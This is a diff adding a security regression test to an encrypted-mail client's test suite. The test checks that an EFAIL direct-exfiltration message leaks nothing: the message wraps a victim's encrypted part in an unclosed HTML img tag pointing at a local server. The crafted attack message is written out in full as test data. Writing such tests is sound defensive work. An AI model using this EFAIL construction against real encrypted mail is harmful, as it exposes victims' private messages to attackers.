@@ -197,6 +197,36 @@ describe('encrypted mail (no display event in Thunderbird)', () => {
     expect(view.status.encryption).toBe('locked');
   });
 
+  it('SEC-02: EFAIL direct exfiltration (HTML around a victim\'s encrypted part) is not decrypted, not opened, and requests nothing', async () => {
+    // The attacker's message: multipart/mixed of [<img src="http://…/?] + [the victim's openssl-encrypted entity] + [">].
+    const victim = Buffer.from(encryptedHtml('aes-256-cbc'));
+    // The victim's message without its own To/From/Subject: the encrypted entity as the attacker embeds it.
+    const entity = victim.subarray(victim.toString('latin1').search(/^MIME-Version:/m));
+    expect(entity.toString('latin1')).toMatch(/^MIME-Version: 1\.0\r?\n(.+\r?\n)*Content-Type: application\/(x-)?pkcs7-mime/);
+    const attack = Buffer.concat([
+      crlf(`From: Mallory <mallory@example.com>\nTo: Bob <bob@example.com>\nSubject: Re: Plans\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\nContent-Type: text/html\n\n<img src="http://127.0.0.1:${port}/?\n--efail\n`),
+      entity,
+      crlf('\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'),
+    ]);
+    const { platform, controller } = setup(bob());
+    platform.raw.set(33, attack);
+    requests.length = 0;
+    expect(isEncryptedMessage(attack)).toBe(false);
+    await controller.selected(4, 33);
+    await controller.displayed(4, 33, attack);
+    expect(platform.opened).toEqual([]);
+    // Nothing Waxseal shows carries the victim's plaintext, and no decrypted view exists for it.
+    expect(JSON.stringify(platform.banners)).not.toContain('Secret plan');
+    const view = await controller.decryptedView(33);
+    expect(view.status).toMatchObject({ encryption: null, decryptedViewAvailable: false });
+    expect(view.text).toBeNull();
+    expect(view.html).toBeNull();
+    expect(view.attachments).toEqual([]);
+    expect(JSON.stringify(view)).not.toContain('Secret plan');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(requests).toEqual([]);
+  });
+
   it('selection of a signed message opens nothing', async () => {
     const { platform, controller } = setup(null);
     platform.raw.set(32, validDetached(pki));
